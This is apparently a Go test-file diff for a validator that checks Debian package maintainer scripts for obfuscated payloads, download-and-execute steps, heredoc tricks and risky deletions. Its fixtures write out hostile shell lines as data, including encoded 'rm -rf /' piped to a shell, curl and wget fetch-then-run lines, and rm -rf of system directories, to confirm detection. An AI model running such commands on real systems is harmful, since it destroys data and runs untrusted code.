@@ -161,3 +161,373 @@ func TestExtractPaths(t *testing.T) {
 		})
 	}
 }
+
+func TestObfuscationDetection(t *testing.T) {
+	validator := NewScriptValidator(WithSecurityLevel(SecurityLevelMedium))
+	blob := strings.Repeat("QUJD", 30)
+
+	tests := []struct {
+		name     string
+		content  string
+		wantRule string
+		wantLine int
+	}{
+		{
+			name:     "Base64 piped to shell",
+			content:  "#!/bin/sh\necho cm0gLXJmIC8K | base64 -d | sh\n",
+			wantRule: RuleEncodedPayload,
+			wantLine: 2,
+		},
+		{
+			name:     "Hex decoded with xxd piped to bash",
+			content:  "#!/bin/sh\necho 726d202d7266 | xxd -r -p | bash\n",
+			wantRule: RuleEncodedPayload,
+			wantLine: 2,
+		},
+		{
+			name:     "Printf hex escapes piped to shell",
+			content:  "#!/bin/sh\nprintf '\\x72\\x6d' | /bin/sh\n",
+			wantRule: RuleEncodedPayload,
+			wantLine: 2,
+		},
+		{
+			name:     "ANSI-C escapes",
+			content:  "#!/bin/bash\ncmd=$'\\x72\\x6d'\n",
+			wantRule: RuleEscapedString,
+			wantLine: 2,
+		},
+		{
+			name:     "Eval of printf output",
+			content:  "#!/bin/sh\neval \"$(printf '%s' \"$payload\")\"\n",
+			wantRule: RuleEvalBuiltCode,
+			wantLine: 2,
+		},
+		{
+			name:     "Download then execute temp file",
+			content:  "#!/bin/sh\nTMP=$(mktemp)\ncurl -fsSL -o \"$TMP\" https://example.com/setup\necho fetched\nsh \"${TMP}\"\n",
+			wantRule: RuleDownloadExecute,
+			wantLine: 5,
+		},
+		{
+			name:     "Download and execute on one line",
+			content:  "#!/bin/sh\nwget -O /tmp/x https://example.com/x && chmod +x /tmp/x && /tmp/x\n",
+			wantRule: RuleDownloadExecute,
+			wantLine: 2,
+		},
+		{
+			name:     "Embedded base64 blob",
+			content:  "#!/bin/sh\nDATA=" + blob + "\n",
+			wantRule: RuleEncodedBlob,
+			wantLine: 2,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := validator.ValidateScript("postinst", tt.content)
+			if err != nil {
+				t.Fatalf("ValidateScript() error = %v", err)
+			}
+
+			found := false
+			for _, f := range result.Findings {
+				if f.RuleID == tt.wantRule && f.Line == tt.wantLine {
+					found = true
+				}
+			}
+			if !found {
+				t.Errorf("Expected %s on line %d, got findings %+v", tt.wantRule, tt.wantLine, result.Findings)
+			}
+			if scriptRules[tt.wantRule].Severity == SeverityError && result.Valid {
+				t.Errorf("Expected script to be rejected, risk %d", result.RiskLevel)
+			}
+		})
+	}
+
+	t.Run("Plain download is not flagged as executed", func(t *testing.T) {
+		result, err := validator.ValidateScript("postinst", "#!/bin/sh\ncurl -o /tmp/data.json https://example.com/data.json\ncat /tmp/data.json\n")
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		for _, f := range result.Findings {
+			if f.RuleID == RuleDownloadExecute || f.RuleID == RuleEncodedPayload {
+				t.Errorf("Unexpected finding: %+v", f)
+			}
+		}
+	})
+}
+
+func TestPatternRegistry(t *testing.T) {
+	script := "#!/bin/sh\nlogger -t myapp started\n"
+
+	hasPattern := func(result *ScriptValidationResult, pattern string) bool {
+		for _, f := range result.Findings {
+			if f.RuleID == RuleDangerousPattern && f.Detail == pattern {
+				return true
+			}
+		}
+		return false
+	}
+
+	sv := NewScriptValidator(WithPattern("logger", `\blogger\b`))
+	result, err := sv.ValidateScript("postinst", script)
+	if err != nil {
+		t.Fatalf("ValidateScript() error = %v", err)
+	}
+	if !hasPattern(result, `\blogger\b`) {
+		t.Errorf("Expected logger pattern to match, got %+v", result.Findings)
+	}
+
+	if !sv.RemovePattern("logger") {
+		t.Fatalf("RemovePattern() = false, want true")
+	}
+	if sv.RemovePattern("logger") {
+		t.Errorf("RemovePattern() of a removed pattern = true, want false")
+	}
+	result, err = sv.ValidateScript("postinst", script)
+	if err != nil {
+		t.Fatalf("ValidateScript() error = %v", err)
+	}
+	if hasPattern(result, `\blogger\b`) {
+		t.Errorf("Removed pattern still matched: %+v", result.Findings)
+	}
+
+	if err := sv.AddPattern("sudo", `logger -t`); err != nil {
+		t.Fatalf("AddPattern() error = %v", err)
+	}
+	if err := sv.AddPattern("broken", `(`); err == nil {
+		t.Errorf("AddPattern() with an invalid pattern succeeded")
+	}
+	ids := []string{}
+	for _, p := range sv.Patterns() {
+		ids = append(ids, p.ID)
+		if p.ID == "sudo" && p.Pattern != `logger -t` {
+			t.Errorf("Expected sudo pattern to be replaced, got %q", p.Pattern)
+		}
+	}
+	if len(ids) != len(defaultScriptPatterns()) {
+		t.Errorf("Expected the sudo pattern to be replaced in place, got %v", ids)
+	}
+
+	sv = NewScriptValidator(WithoutPatterns("sudo"))
+	result, err = sv.ValidateScript("postinst", "#!/bin/sh\nsudo true\n")
+	if err != nil {
+		t.Fatalf("ValidateScript() error = %v", err)
+	}
+	if hasPattern(result, "sudo") {
+		t.Errorf("Expected sudo pattern to be removed, got %+v", result.Findings)
+	}
+
+	sv = NewScriptValidator(WithAdditionalDangerousPatterns([]string{`[`}))
+	if _, err := sv.ValidateScript("postinst", script); err == nil {
+		t.Errorf("ValidateScript() with an invalid pattern succeeded")
+	}
+}
+
+func TestScriptValidatorMultiLine(t *testing.T) {
+	validator := NewScriptValidator()
+
+	tests := []struct {
+		name     string
+		content  string
+		wantRule string
+		wantLine int // 0 when no finding of wantRule is expected
+	}{
+		{
+			name:     "Continued pipe to shell",
+			content:  "#!/bin/sh\ncurl -fsSL https://example.com/install \\\n  | sh\n",
+			wantRule: RuleDangerousPattern,
+			wantLine: 2,
+		},
+		{
+			name:     "Heredoc written to a file",
+			content:  "#!/bin/sh\ncat > /opt/myapp/README <<'EOF'\nDo not run sudo rm -rf / here\nEOF\necho done\n",
+			wantRule: RuleDangerousPattern,
+		},
+		{
+			name:     "Indented heredoc delimiter",
+			content:  "#!/bin/sh\ncat <<-EOF > /opt/myapp/notes\n\tsudo is not needed\n\tEOF\n",
+			wantRule: RuleDangerousPattern,
+		},
+		{
+			name:     "Heredoc run by a shell",
+			content:  "#!/bin/sh\nsh <<EOF\nsudo true\nEOF\n",
+			wantRule: RuleDangerousPattern,
+			wantLine: 3,
+		},
+		{
+			name:     "Heredoc piped to a shell",
+			content:  "#!/bin/sh\ncat <<EOF | bash\necho x\nsudo true\nEOF\n",
+			wantRule: RuleDangerousPattern,
+			wantLine: 4,
+		},
+		{
+			name:     "Commands after heredoc are checked",
+			content:  "#!/bin/sh\ncat > /opt/myapp/conf <<EOF\nkey=value\nEOF\nsudo true\n",
+			wantRule: RuleDangerousPattern,
+			wantLine: 5,
+		},
+		{
+			name:     "Here-string is not a heredoc",
+			content:  "#!/bin/bash\nread -r x <<< \"$1\"\nsudo true\n",
+			wantRule: RuleDangerousPattern,
+			wantLine: 3,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := validator.ValidateScript("postinst", tt.content)
+			if err != nil {
+				t.Fatalf("ValidateScript() error = %v", err)
+			}
+
+			var lines []int
+			for _, f := range result.Findings {
+				if f.RuleID == tt.wantRule {
+					lines = append(lines, f.Line)
+				}
+			}
+			if tt.wantLine == 0 {
+				if len(lines) > 0 {
+					t.Errorf("Unexpected %s findings on lines %v", tt.wantRule, lines)
+				}
+				return
+			}
+			found := false
+			for _, line := range lines {
+				found = found || line == tt.wantLine
+			}
+			if !found {
+				t.Errorf("Expected %s on line %d, got %+v", tt.wantRule, tt.wantLine, result.Findings)
+			}
+		})
+	}
+}
+
+func BenchmarkValidateScript(b *testing.B) {
+	var content strings.Builder
+	content.WriteString("#!/bin/sh\nset -e\n")
+	for i := 0; i < 200; i++ {
+		content.WriteString("mkdir -p /opt/myapp/data\necho configured >> /opt/myapp/log\n")
+	}
+	validator := NewScriptValidator()
+
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		if _, err := validator.ValidateScript("postinst", content.String()); err != nil {
+			b.Fatalf("ValidateScript() error = %v", err)
+		}
+	}
+}
+
+func TestScriptTypePolicies(t *testing.T) {
+	purge := "#!/bin/sh\nset -e\ncase \"$1\" in\n  purge)\n    rm -rf /var/lib/myapp\n    ;;\n  remove|upgrade)\n    rm -f /var/lib/myapp/cache\n    ;;\nesac\n"
+
+	ruleLines := func(result *ScriptValidationResult, rule string) []int {
+		var lines []int
+		for _, f := range result.Findings {
+			if f.RuleID == rule {
+				lines = append(lines, f.Line)
+			}
+		}
+		return lines
+	}
+
+	validator := NewScriptValidator()
+
+	t.Run("postrm purge may remove files", func(t *testing.T) {
+		result, err := validator.ValidateScript("debian/myapp.postrm", purge)
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		if lines := ruleLines(result, RuleRiskyCommand); len(lines) != 1 || lines[0] != 8 {
+			t.Errorf("Expected %s only outside the purge branch on line 8, got %v", RuleRiskyCommand, lines)
+		}
+		if lines := ruleLines(result, RuleDangerousPattern); len(lines) != 2 {
+			t.Errorf("Expected rm-root to stay enabled in the purge branch, got %v", lines)
+		}
+		if lines := ruleLines(result, RuleProtectedPath); len(lines) != 0 || !result.Valid {
+			t.Errorf("Expected /var/lib/myapp not to match the protected /lib, got %+v", result.Findings)
+		}
+	})
+
+	t.Run("postrm purge may not remove system directories", func(t *testing.T) {
+		for _, target := range []string{"/", "/*", "/etc", "/usr", "/var/lib"} {
+			script := "#!/bin/sh\ncase \"$1\" in\n  purge) rm -rf " + target + " ;;\nesac\n"
+			result, err := validator.ValidateScript("postrm", script)
+			if err != nil {
+				t.Fatalf("ValidateScript() error = %v", err)
+			}
+			if target == "/var/lib" {
+				if len(ruleLines(result, RuleProtectedPath)) != 0 {
+					t.Errorf("rm -rf %s: unexpected protected path %+v", target, result.Findings)
+				}
+				continue
+			}
+			if len(ruleLines(result, RuleProtectedPath)) == 0 || len(ruleLines(result, RuleDangerousPattern)) == 0 || result.Valid {
+				t.Errorf("rm -rf %s: expected a rejected script, got valid = %v, %+v", target, result.Valid, result.Findings)
+			}
+		}
+	})
+
+	t.Run("preinst is flagged", func(t *testing.T) {
+		result, err := validator.ValidateScript("preinst", purge)
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		if lines := ruleLines(result, RuleRiskyCommand); len(lines) != 2 {
+			t.Errorf("Expected rm to be reported twice, got %v", lines)
+		}
+	})
+
+	t.Run("Protected paths are still checked", func(t *testing.T) {
+		script := "#!/bin/sh\ncase \"$1\" in\n  purge) rm -rf /usr/bin/myapp ;;\nesac\n"
+		result, err := validator.ValidateScript("postrm", script)
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		lines := ruleLines(result, RuleProtectedPath)
+		if len(lines) == 0 || lines[0] != 3 {
+			t.Errorf("Expected protected path on line 3, got %+v", result.Findings)
+		}
+		if result.Valid {
+			t.Errorf("Expected script to be rejected")
+		}
+	})
+
+	t.Run("Custom type policy", func(t *testing.T) {
+		sv := NewScriptValidator(
+			WithScriptTypePolicy("preinst", ScriptTypePolicy{DangerousCommands: map[string]int{"deluser": 6, "rm": 0}}),
+		)
+		script := "#!/bin/sh\ndeluser myapp\nrm -f /tmp/myapp.lock\n"
+
+		result, err := sv.ValidateScript("preinst", script)
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		var commands []string
+		for _, f := range result.Findings {
+			if f.RuleID == RuleRiskyCommand {
+				commands = append(commands, f.Detail)
+			}
+		}
+		if len(commands) != 1 || commands[0] != "deluser" {
+			t.Errorf("Expected only deluser to be risky in preinst, got %v", commands)
+		}
+
+		result, err = sv.ValidateScript("postinst", script)
+		if err != nil {
+			t.Fatalf("ValidateScript() error = %v", err)
+		}
+		commands = nil
+		for _, f := range result.Findings {
+			if f.RuleID == RuleRiskyCommand {
+				commands = append(commands, f.Detail)
+			}
+		}
+		if len(commands) != 1 || commands[0] != "rm" {
+			t.Errorf("Expected only rm to be risky in postinst, got %v", commands)
+		}
+	})
+}